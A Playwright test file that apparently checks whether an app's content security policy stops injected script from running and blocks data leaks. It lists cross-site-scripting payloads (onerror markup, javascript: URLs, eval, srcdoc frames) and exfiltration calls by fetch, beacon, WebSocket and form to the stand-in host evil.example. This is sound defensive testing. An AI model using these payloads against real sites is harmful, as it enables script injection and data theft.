import type { Page } from 'playwright/test';
import { expect, test } from './fixtures';

/** What a page that took in hostile text could try, each as code that runs in our own page and would set `hostile`. */
const attempts: Record<string, string> = {
  'an inline script': `const s = document.createElement('script'); s.textContent = 'window.hostile = 1'; document.body.append(s);`,
  'a script from a data: address': `const s = document.createElement('script'); s.src = 'data:text/javascript,window.hostile=1'; document.body.append(s);`,
  'a script from a blob': `const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob(['window.hostile = 1'], { type: 'text/javascript' })); document.body.append(s);`,
  'a script from another origin': `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s);`,
  'markup with onerror': `const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<img src="data:image/png,x" onerror="window.hostile = 1">';`,
  'markup by insertAdjacentHTML': `document.body.insertAdjacentHTML('beforeend', '<img src="data:image/png,x" onerror="window.hostile = 1">');`,
  'markup by document.write': `document.write('<script>window.hostile = 1</' + 'script>');`,
  'an event handler in an attribute': `const b = document.createElement('button'); b.setAttribute('onclick', 'window.hostile = 1'); document.body.append(b); b.click();`,
  'a javascript: link': `const a = document.createElement('a'); a.href = 'javascript:window.hostile=1'; document.body.append(a); a.click();`,
  'a javascript: address': `location.href = 'javascript:void(window.hostile=1)';`,
  'a javascript: frame': `const f = document.createElement('iframe'); f.src = 'javascript:parent.hostile=1'; document.body.append(f);`,
  'a frame with its own text': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.hostile = 1</' + 'script>'; document.body.append(f);`,
  'a policy for markup of its own': `const p = window.trustedTypes.createPolicy('evil', { createHTML: (x) => x }); const d = document.createElement('div'); document.body.append(d); d.innerHTML = p.createHTML('<img src="data:image/png,x" onerror="window.hostile = 1">');`,
  eval: `eval('window.hostile = 1');`,
  'a function made of text': `new Function('window.hostile = 1')();`,
  'a timer with a text': `setTimeout('window.hostile = 1', 0);`,
  'a worker': `new Worker(URL.createObjectURL(new Blob(['1'])));`,
  'an object': `const o = document.createElement('object'); o.data = 'data:text/html,<script>parent.hostile=1</' + 'script>'; document.body.append(o);`,
  'another base for addresses': `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); const s = document.createElement('script'); s.src = 'x.js'; document.body.append(s);`,
};

/** What would carry text out of the page; each answers "out" where the browser let it go. */
const leaks: Record<string, string> = {
  fetch: `fetch('https://evil.example/?x').then(() => 'out', () => 'in')`,
  'a beacon': `Promise.resolve(navigator.sendBeacon('https://evil.example/', 'x') ? 'sent' : 'in')`,
  'a WebSocket': `new Promise((done) => { try { const s = new WebSocket('wss://evil.example/'); s.onopen = () => done('out'); s.onerror = () => done('in'); } catch { done('in'); } })`,
  'an EventSource': `new Promise((done) => { const s = new EventSource('https://evil.example/'); s.onopen = () => done('out'); s.onerror = () => done('in'); })`,
  'a picture': `new Promise((done) => { const i = new Image(); i.onload = () => done('out'); i.onerror = () => done('in'); i.src = 'https://evil.example/x.png'; })`,
  'a form': `new Promise((done) => { const f = document.createElement('form'); f.action = 'https://evil.example/'; document.body.append(f); document.addEventListener('securitypolicyviolation', () => done('in'), { once: true }); f.submit(); })`,
};

/** Runs code in the page as if our own script held it: through the debugger, whose code the policy does not judge. */
async function attempt(page: Page, code: string): Promise<unknown> {
  const debug = await page.context().newCDPSession(page);
  await debug.send('Runtime.enable');
  const expression = `(() => { try { ${code} } catch (error) { return String(error); } })()`;
  const { result } = await debug.send('Runtime.evaluate', { expression, allowUnsafeEvalBlockedByCSP: false });
  await debug.detach();
  return result.value;
}

test.describe('[checklist 7] text that came into the page', () => {
  test('is never run: no script, handler, address or markup', async ({ page, walk, complaints }) => {
    await expect(walk.page.getByRole('button', { name: 'Start practice' })).toBeVisible();
    // Each attempt is refused aloud, as it should be.
    complaints.away = true;
    const outside: string[] = [];
    // The test answers every request that leaves the browser, so that it sees a leak without a network, too.
    await page.context().route('**://evil.example/**', (route) => {
      outside.push(route.request().url());
      return route.fulfill({ status: 200, contentType: 'text/javascript', body: 'window.hostile = 1' });
    });
    for (const [name, code] of Object.entries(attempts)) {
      await attempt(page, code);
      // After two frames and a task, every script that can run has run.
      await page.evaluate(
        () =>
          new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(() => setTimeout(done)))),
      );
      expect(await page.evaluate(() => 'hostile' in window), name).toBe(false);
    }
    for (const [name, code] of Object.entries(leaks)) expect(await page.evaluate(code), name).not.toBe('out');
    expect(outside).toEqual([]);
    expect(page.url()).toMatch(/^http:\/\/127\.0\.0\.1:/);
  });

  test('finds no Node and no Electron to speak to', async ({ page, walk }) => {
    await expect(walk.page.getByRole('button', { name: 'Start practice' })).toBeVisible();
    const reach = ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', '__dirname'];
    expect(await page.evaluate((names) => names.filter((name) => name in window), reach)).toEqual([]);
  });
});
